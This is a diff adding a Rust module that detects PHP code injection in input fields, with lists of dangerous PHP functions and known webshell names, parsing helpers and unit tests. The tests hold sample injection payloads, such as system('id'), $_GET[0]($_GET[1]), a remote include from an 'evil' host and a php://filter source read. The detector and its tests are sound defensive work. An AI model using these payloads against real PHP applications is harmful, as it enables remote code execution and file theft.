@@ -1,0 +1,455 @@
+//! PHP code injection: PHP *call syntax* in a data field, read token by token.
+//!
+//! A call counts when a dangerous function (`system`, `passthru`, `assert`, `create_function`,
+//! `posix_getpwuid`, ...) is followed — after optional whitespace and `/* */` or `#` comments —
+//! by `(` and an argument that is PHP: a string literal, a variable, a backtick command, a
+//! nested call of a PHP function, or, at the start of the value, a bare constant (`system(id)`).
+//! `system (noun)` or "the exec(s)" in prose have none of these. The callee may also be
+//! parenthesised (`(system)(ls)`), a concatenation of string literals (`"sys"."tem"(...)`) or
+//! a variable (`$f(...)`, `$_GET[0]($_GET[1])`). Besides calls: `<?php` / `<?=` openers,
+//! `include` of a URL or stream wrapper, `php://` / `expect://` / `phar://` wrappers, backtick
+//! execution after `echo`, and well-known webshell file names as path segments.
+//!
+//! Level: 1 in a short, code-like value; 2 when the field is pasted source or prose (a chat
+//! message asking about PHP code, a long multi-line snippet) — see [`pasted_source`].
+//! Linear: every look-ahead from a position is bounded by a constant.
+
+use crate::{Check, Finding, Input};
+
+pub struct Php;
+
+/// Functions whose call in a data field is code execution, file access or a PHP probe.
+const SINKS: &[&str] = &[
+    "system", "exec", "shell_exec", "passthru", "popen", "proc_open", "pcntl_exec", "assert", "eval",
+    "create_function", "call_user_func", "call_user_func_array", "preg_replace", "phpinfo",
+    "base64_decode", "gzinflate", "gzuncompress", "str_rot13", "file_get_contents", "file_put_contents",
+    "fopen", "fwrite", "fputs", "readfile", "file_exists", "unlink", "highlight_file", "show_source",
+    "php_uname", "phpversion", "posix_getpwuid", "posix_getuid", "posix_geteuid", "posix_uname",
+    "posix_kill", "posix_setuid", "scandir", "opendir", "var_dump", "print_r", "array_map",
+    "array_filter", "usort", "putenv", "ini_set", "symlink", "move_uploaded_file", "getcwd",
+    "get_current_user", "getmypid", "dl", "mb_ereg_replace", "register_shutdown_function",
+];
+
+/// Sinks called without arguments in probes (`phpinfo()`).
+const NO_ARG: &[&str] = &["phpinfo", "getcwd", "php_uname", "phpversion", "posix_getuid", "posix_geteuid", "posix_uname", "get_current_user", "getmypid"];
+
+/// Sinks that are also everyday English words, checked more strictly for bare arguments.
+const WORDS: &[&str] = &["system", "exec", "assert", "eval", "dl", "usort"];
+
+/// Functions that build a string argument (`system(base64_decode('aWQ='))`).
+const HELPERS: &[&str] = &[
+    "base64_decode", "str_rot13", "gzinflate", "gzuncompress", "hex2bin", "chr", "strrev", "urldecode",
+    "rawurldecode", "implode", "join", "trim", "file_get_contents", "stripslashes", "strtolower",
+    "strtoupper", "getenv", "array_pop", "end", "current", "pack", "convert_uudecode", "sprintf", "md5",
+    "sha1", "str_replace",
+];
+
+/// Names used by webshells dropped on compromised hosts, as `/<name>.php`.
+const WEBSHELLS: &[&str] = &[
+    "c99", "c99shell", "c100", "r57", "r57shell", "b374k", "wso", "wso2", "wso25", "alfa", "alfashell",
+    "indoxploit", "phpspy", "webshell", "backdoor", "simple-backdoor", "k2ll33d", "madspot", "priv8",
+    "shell", "cmd", "cmdshell", "sadrazam", "kacak", "phpshell", "r00t", "b374k-shell",
+];
+
+/// Vue and jQuery instance helpers (`$t('key')`, `$emit(...)`): JavaScript, not PHP variable
+/// functions.
+const JS_DOLLAR: &[&str] = &["t", "tc", "te", "d", "n", "emit", "set", "delete", "watch", "on", "once", "off", "nexttick", "forceupdate", "mount", "destroy", "el", "refs", "store", "router", "route", "http", "q", "j"];
+
+const SUPERGLOBALS: &[&str] = &["_get", "_post", "_request", "_cookie", "_server", "_files", "_env", "_session", "globals"];
+
+impl Check for Php {
+    fn detector(&self) -> &'static str {
+        "php-injection"
+    }
+
+    fn inspect(&self, input: &Input<'_>) -> Option<Finding> {
+        if !input.bytes.any(b"(<`:.$") {
+            return None;
+        }
+        let reason = find(input.text.as_bytes())?;
+        let level = if pasted_source(input.text) { 2 } else { reason.1 };
+        (level <= input.sensitivity).then_some(Finding { reason: reason.0, score: 0.95, level })
+    }
+}
+
+/// A field that is a chat message or a pasted source file rather than a parameter: long,
+/// multi-line, fenced, or mostly prose. Code findings there count from level 2. Shared with the
+/// Java check.
+pub(crate) fn pasted_source(text: &str) -> bool {
+    let bytes = text.as_bytes();
+    if bytes.len() > 400 || text.contains("```") {
+        return true;
+    }
+    let lines = bytes.iter().filter(|&&b| b == b'\n').count();
+    if lines >= 4 {
+        return true;
+    }
+    // Prose: runs of two or more letters separated by single spaces, as in a sentence.
+    let mut words = 0;
+    let mut run = 0;
+    for &b in bytes {
+        if b.is_ascii_alphabetic() {
+            run += 1;
+        } else {
+            if run >= 2 && (b == b' ' || b == b',' || b == b'?') {
+                words += 1;
+            }
+            run = 0;
+        }
+    }
+    words >= 12
+}
+
+fn is_ident(b: u8) -> bool {
+    b.is_ascii_alphanumeric() || b == b'_'
+}
+
+/// Index of the first byte after whitespace and PHP comments from `i` (at most 64 bytes on).
+fn skip_gap(t: &[u8], mut i: usize) -> usize {
+    let limit = (i + 64).min(t.len());
+    while i < limit {
+        match t[i] {
+            b' ' | b'\t' | b'\n' | b'\r' | 0x0b | 0x0c => i += 1,
+            b'/' if t.get(i + 1) == Some(&b'*') => match find_from(t, i + 2, b"*/", limit) {
+                Some(end) => i = end + 2,
+                None => return i,
+            },
+            b'#' => match t[i..limit].iter().position(|&b| b == b'\n') {
+                Some(nl) => i += nl + 1,
+                None => return i,
+            },
+            _ => return i,
+        }
+    }
+    i
+}
+
+fn find_from(t: &[u8], from: usize, needle: &[u8], limit: usize) -> Option<usize> {
+    let end = limit.min(t.len());
+    if from >= end {
+        return None;
+    }
+    t[from..end].windows(needle.len()).position(|w| w == needle).map(|p| p + from)
+}
+
+/// Lower-cased identifier starting at `i` (at most 32 bytes) and its end.
+fn ident_at(t: &[u8], i: usize) -> (String, usize) {
+    let mut end = i;
+    while end < t.len() && is_ident(t[end]) {
+        end += 1;
+    }
+    let take = (end - i).min(32);
+    (t[i..i + take].iter().map(|b| b.to_ascii_lowercase() as char).collect(), end)
+}
+
+fn starts_with_ci(t: &[u8], i: usize, word: &[u8]) -> bool {
+    t.len() >= i + word.len() && t[i..i + word.len()].eq_ignore_ascii_case(word)
+}
+
+/// The first PHP construct in `t`: its reason and base level.
+fn find(t: &[u8]) -> Option<(&'static str, u8)> {
+    let mut best: Option<(&'static str, u8)> = None;
+    let note = |found: (&'static str, u8), best: &mut Option<(&'static str, u8)>| {
+        if best.is_none_or(|b| found.1 < b.1) {
+            *best = Some(found);
+        }
+    };
+    let mut i = 0;
+    let mut prev_word = String::new();
+    while i < t.len() {
+        let b = t[i];
+        if b == b'$' {
+            if let Some(found) = variable(t, i) {
+                note(found, &mut best);
+                if found.1 == 1 {
+                    return best;
+                }
+            }
+            i += 1;
+            continue;
+        }
+        if b == b'\'' || b == b'"' {
+            if string_callee(t, i) {
+                return Some(("php-injection:string-callee", 1));
+            }
+            i += 1;
+            continue;
+        }
+        if b == b'(' && paren_callee(t, i) {
+            return Some(("php-injection:paren-callee", 1));
+        }
+        if b == b'<' && t.get(i + 1) == Some(&b'?') {
+            let after = i + 2;
+            if starts_with_ci(t, after, b"php") && t.get(after + 3).is_none_or(|b| !is_ident(*b)) {
+                return Some(("php-injection:opener", 1));
+            }
+            if t.get(after) == Some(&b'=') && t.get(after + 1).is_some_and(|b| !b.is_ascii_whitespace() || t.len() > after + 2) {
+                return Some(("php-injection:opener", 1));
+            }
+        }
+        if b == b':' && t.get(i + 1) == Some(&b'/') && t.get(i + 2) == Some(&b'/') && wrapper_before(t, i) {
+            return Some(("php-injection:stream-wrapper", 1));
+        }
+        if b == b'.' && starts_with_ci(t, i + 1, b"php") && t.get(i + 4).is_none_or(|b| !b.is_ascii_alphabetic()) && webshell_before(t, i) {
+            return Some(("php-injection:webshell", 1));
+        }
+        if (b.is_ascii_alphabetic() || b == b'_') && (i == 0 || !(is_ident(t[i - 1]) || t[i - 1] == b'$' || t[i - 1] == b'\\')) {
+            let (word, end) = ident_at(t, i);
+            if let Some(found) = word_construct(t, i, end, &word, &prev_word) {
+                return Some(found);
+            }
+            prev_word = word;
+            i = end;
+            continue;
+        }
+        i += 1;
+    }
+    best
+}
+
+/// `$f(...)`, `$_GET[0]($_GET[1])`, `${'_GET'}[x](...)`; a superglobal alone is level 2.
+fn variable(t: &[u8], at: usize) -> Option<(&'static str, u8)> {
+    if at > 0 && is_ident(t[at - 1]) {
+        return None;
+    }
+    let mut i = at + 1;
+    let name;
+    if t.get(i) == Some(&b'{') {
+        let close = t[i..(i + 40).min(t.len())].iter().position(|&b| b == b'}')?;
+        name = t[i + 1..i + close].iter().filter(|b| is_ident(**b)).map(|b| b.to_ascii_lowercase() as char).collect::<String>();
+        i += close + 1;
+    } else {
+        if !t.get(i).is_some_and(|b| b.is_ascii_alphabetic() || *b == b'_') {
+            return None;
+        }
+        let (word, end) = ident_at(t, i);
+        name = word;
+        i = end;
+    }
+    let superglobal = SUPERGLOBALS.contains(&name.as_str());
+    let mut subscripts = 0;
+    while t.get(i) == Some(&b'[') && subscripts < 3 {
+        let close = t[i..(i + 40).min(t.len())].iter().position(|&b| b == b']')?;
+        i += close + 1;
+        subscripts += 1;
+    }
+    let open = skip_gap(t, i);
+    if t.get(open) != Some(&b'(') {
+        return (superglobal && subscripts > 0).then_some(("php-injection:superglobal", 2));
+    }
+    let arg = skip_gap(t, open + 1);
+    let arg_byte = t.get(arg).copied().unwrap_or(b')');
+    let php_arg = arg_byte == b'$' || arg_byte == b'`';
+    let string_arg = arg_byte == b'\'' || arg_byte == b'"';
+    if superglobal || php_arg || (string_arg && !JS_DOLLAR.contains(&name.as_str()) && open == i) {
+        return Some(("php-injection:variable-function", 1));
+    }
+    None
+}
+
+/// A concatenation of string literals called as a function: `"sys"."tem"(...)`,
+/// `('ex'.'ec')(...)` — when the literals spell a sink.
+fn string_callee(t: &[u8], at: usize) -> bool {
+    let mut name = String::new();
+    let mut i = at;
+    let mut parts = 0;
+    loop {
+        let quote = t[i];
+        let limit = (i + 41).min(t.len());
+        let Some(len) = t[i + 1..limit].iter().position(|&b| b == quote) else { return false };
+        name.extend(t[i + 1..i + 1 + len].iter().map(|b| b.to_ascii_lowercase() as char));
+        parts += 1;
+        i = skip_gap(t, i + len + 2);
+        while t.get(i) == Some(&b')') {
+            i = skip_gap(t, i + 1);
+        }
+        match t.get(i) {
+            Some(b'.') => {
+                i = skip_gap(t, i + 1);
+                while t.get(i) == Some(&b'(') {
+                    i = skip_gap(t, i + 1);
+                }
+                if !matches!(t.get(i), Some(b'\'' | b'"')) || parts > 12 || name.len() > 40 {
+                    return false;
+                }
+            }
+            Some(b'(') => return SINKS.contains(&name.as_str()),
+            _ => return false,
+        }
+    }
+}
+
+/// `(system)(ls)`: a parenthesised sink name called.
+fn paren_callee(t: &[u8], open: usize) -> bool {
+    let i = skip_gap(t, open + 1);
+    if !t.get(i).is_some_and(|b| b.is_ascii_alphabetic() || *b == b'_') {
+        return false;
+    }
+    let (word, end) = ident_at(t, i);
+    let close = skip_gap(t, end);
+    if t.get(close) != Some(&b')') || !SINKS.contains(&word.as_str()) {
+        return false;
+    }
+    t.get(skip_gap(t, close + 1)) == Some(&b'(')
+}
+
+/// `php://`, `expect://`, `phar://`, `data://`: PHP stream wrappers (the `://` is at `colon`).
+fn wrapper_before(t: &[u8], colon: usize) -> bool {
+    ["php", "expect", "phar", "data", "zlib"].iter().any(|w| {
+        let w = w.as_bytes();
+        colon >= w.len() && t[colon - w.len()..colon].eq_ignore_ascii_case(w) && (colon == w.len() || !is_ident(t[colon - w.len() - 1]) || w == b"zlib")
+    })
+}
+
+/// The path segment ending at `dot` (`/c99.php`) is a webshell name.
+fn webshell_before(t: &[u8], dot: usize) -> bool {
+    let start = t[..dot].iter().rposition(|&b| matches!(b, b'/' | b'\\' | b'=' | b' ' | b'?' | b'&' | b'"' | b'\'')).map_or(0, |p| p + 1);
+    if dot - start > 24 {
+        return false;
+    }
+    let name: String = t[start..dot].iter().map(|b| b.to_ascii_lowercase() as char).collect();
+    WEBSHELLS.contains(&name.as_str())
+}
+
+/// A construct that starts with the identifier `word` (`t[i..end]`): a sink call, `include` of
+/// a URL, `echo` of a backtick command.
+fn word_construct(t: &[u8], i: usize, end: usize, word: &str, prev_word: &str) -> Option<(&'static str, u8)> {
+    if matches!(word, "include" | "include_once" | "require" | "require_once") {
+        let mut j = skip_gap(t, end);
+        let paren = t.get(j) == Some(&b'(');
+        if paren {
+            j = skip_gap(t, j + 1);
+        }
+        let quoted = matches!(t.get(j), Some(b'\'' | b'"'));
+        if quoted {
+            j += 1;
+        }
+        if (paren || quoted) && (url_at(t, j) || t.get(j) == Some(&b'$')) {
+            return Some(("php-injection:include-url", 1));
+        }
+        return None;
+    }
+    if matches!(word, "echo" | "print") {
+        let j = skip_gap(t, end);
+        if j > end && t.get(j) == Some(&b'`') && t[j + 1..(j + 80).min(t.len())].contains(&b'`') {
+            return Some(("php-injection:backtick", 1));
+        }
+        return None;
+    }
+    if !SINKS.contains(&word) || matches!(prev_word, "function" | "def" | "fn" | "func" | "new") {
+        return None;
+    }
+    if !callable_position(t, i) {
+        return None;
+    }
+    let open = skip_gap(t, end);
+    if t.get(open) != Some(&b'(') {
+        return None;
+    }
+    let arg = skip_gap(t, open + 1);
+    let strong = match t.get(arg) {
+        None => false,
+        Some(b'\'' | b'"') => word != "preg_replace" || preg_e(t, arg),
+        Some(b'$' | b'`') => word != "preg_replace",
+        Some(b')') => NO_ARG.contains(&word),
+        Some(c) if c.is_ascii_alphabetic() || *c == b'_' => {
+            let (inner, inner_end) = ident_at(t, arg);
+            let after = skip_gap(t, inner_end);
+            match t.get(after) {
+                Some(b'(') => HELPERS.contains(&inner.as_str()) || SINKS.contains(&inner.as_str()),
+                Some(b')') => {
+                    // A bare constant (`system(id)`): code only at the start of a statement,
+                    // not as a plural in prose (`the system(s)`).
+                    let tight = open == end;
+                    let not_plural = !matches!(inner.as_str(), "s" | "es" | "ies");
+                    let at_statement = statement_start(t, i);
+                    tight && not_plural && (at_statement || !WORDS.contains(&word))
+                }
+                _ => false,
+            }
+        }
+        Some(c) if c.is_ascii_digit() => word == "var_dump" || word == "print_r",
+        _ => false,
+    };
+    strong.then_some(("php-injection:function-call", 1))
+}
+
+/// The sink is called as a function: not a method (`->exec(`, `::exec(`, `obj.exec(`), except
+/// after a closed string (`'.system('id').'`, PHP concatenation).
+fn callable_position(t: &[u8], i: usize) -> bool {
+    let mut j = i;
+    let floor = i.saturating_sub(8);
+    while j > floor && t[j - 1].is_ascii_whitespace() {
+        j -= 1;
+    }
+    if j == 0 {
+        return true;
+    }
+    match t[j - 1] {
+        b'>' if j >= 2 && t[j - 2] == b'-' => false,
+        b':' if j >= 2 && t[j - 2] == b':' => false,
+        b'.' => j >= 2 && matches!(t[j - 2], b'\'' | b'"'),
+        _ => true,
+    }
+}
+
+/// The identifier at `i` starts the value or a statement (after `;`, a quote, `(`, `|`, `&`,
+/// `=`, `{`, `?>`-style openers and whitespace).
+fn statement_start(t: &[u8], i: usize) -> bool {
+    let mut j = i;
+    let floor = i.saturating_sub(8);
+    while j > floor && t[j - 1].is_ascii_whitespace() {
+        j -= 1;
+    }
+    j == 0 || matches!(t[j - 1], b';' | b'\'' | b'"' | b'(' | b'|' | b'&' | b'=' | b'{' | b'?' | b'`' | b'>' | b'.')
+}
+
+/// `preg_replace('/x/e', ...)`: the pattern's modifiers include `e` (evaluate the replacement).
+fn preg_e(t: &[u8], quote_at: usize) -> bool {
+    let quote = t[quote_at];
+    let limit = (quote_at + 200).min(t.len());
+    let Some(len) = t[quote_at + 1..limit].iter().position(|&b| b == quote) else { return false };
+    let pattern = &t[quote_at + 1..quote_at + 1 + len];
+    let mods = pattern.iter().rev().take_while(|b| b.is_ascii_alphabetic()).count();
+    mods > 0 && pattern.len() > mods && !pattern[..pattern.len() - mods].is_empty() && pattern[pattern.len() - mods..].contains(&b'e')
+}
+
+/// A remote or wrapper URL at `i`.
+fn url_at(t: &[u8], i: usize) -> bool {
+    ["http://", "https://", "ftp://", "php://", "data:", "expect://", "zip://", "phar://", "\\\\"].iter().any(|s| starts_with_ci(t, i, s.as_bytes()))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::Php;
+    use crate::{Check, Input};
+
+    fn hit(text: &str) -> Option<&'static str> {
+        Php.inspect(&Input::new(text)).map(|f| f.reason)
+    }
+
+    #[test]
+    fn calls_and_forms() {
+        for text in [
+            "system('id')", "file_exists (\"/etc/passwd\")", "posix_getpwuid(posix_geteuid())", "system(id)",
+            "(system)(ls)", "\"sys\".\"tem\"('id')", "$f('id')", "$_GET[0]($_GET[1])", "<?php echo 1; ?>",
+            "<?=`id`?>", "phpinfo()", "eval(base64_decode('ZWNobyAx'))", "include('http://evil/x.txt')",
+            "php://filter/convert.base64-encode/resource=index.php", "/uploads/c99.php", "'.passthru('ls').'",
+            "system/**/('id')", "preg_replace('/.*/e','system(\"id\")','')", "echo `id`;", "${'_GET'}[a]($_GET[b])",
+        ] {
+            assert!(hit(text).is_some(), "{text}");
+        }
+    }
+
+    #[test]
+    fn prose_passes() {
+        for text in [
+            "system (noun): a set of things working together", "the exec(s) will meet", "system requirements",
+            "the system(s) under test", "regex.exec(str)", "$this->exec('x')", "$t('home.title')",
+            "$(document).ready(fn)", "please include http://example.com in the mail", "O'Brien's \"best\" (really)",
+            "price $5 (USD)", "shell scripts", "Mozilla/5.0 (Windows NT 10.0; Win64; x64)",
+        ] {
+            assert_eq!(hit(text), None, "{text}");
+        }
+    }
+}
